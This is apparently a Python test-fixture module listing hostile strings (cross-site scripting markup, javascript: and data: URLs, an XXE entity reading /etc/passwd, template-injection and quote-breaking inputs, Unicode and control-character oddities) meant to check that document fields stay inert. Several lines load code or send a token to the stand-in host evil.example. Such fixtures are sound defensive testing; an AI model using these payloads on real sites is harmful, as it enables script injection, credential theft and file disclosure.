"""Texts that try to be more than text: each may stand in any field of a document and must stay what it is."""

#: A word that a script would leave behind if any of these ever ran.
TRACE = "hostileRan"

_RUN = f"window.{TRACE}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="https://evil.example/pixel.gif" onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>click</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); * { display: none }</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<form action=javascript:{_RUN}><button>Close</button></form>",
    "<form action=https://evil.example/><input name=token></form>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    "<!--", "-->", "<!-- <script>", "]]>", "<![CDATA[", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<plaintext>", "<xmp>", "</dialog></body></html>", "<dialog open>fake</dialog>",
)  # fmt: skip

ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "https://evil.example/?token=stolen",
    "//evil.example/x",
    "http://127.0.0.1:8000/token/state",
    "#witness=00000000:0-5",
    "#compare=a~b~c",
    "[click](javascript:alert(1))",
)

QUOTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'"><img src=x onerror={_RUN}>',
    f"`${{{_RUN}}}`",
    "${policy} $script $views $$",
    "{{constructor.constructor('return 1')()}}",
    "%s%n%x {0} {views} \\u003cscript\\u003e",
    "&lt;script&gt; &#60;b&#62; &amp;amp;",
)

WRITING = (
    "\u202egpj.exe\u202c",
    "\u2066\u2067\u2068 unclosed isolates",
    "\u200e\u200f\u061c marks",
    "line\u2028separator\u2029paragraph",
    "nul\x00bell\x07escape\x1b[31mred\x1b]0;title\x07",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u033b\u0323lgo" + "\u0301" * 300,
    "\ufeffbyte order \ufffe\uffff",
    "lone surrogate as text \\ud83d and a family 👩‍👩‍👧‍👦",
    "W" * 20_000,
    "مرحبا <b>بالعالم</b> שלום",
)  # fmt: skip

HOSTILE = (*MARKUP, *ADDRESSES, *QUOTES, *WRITING)
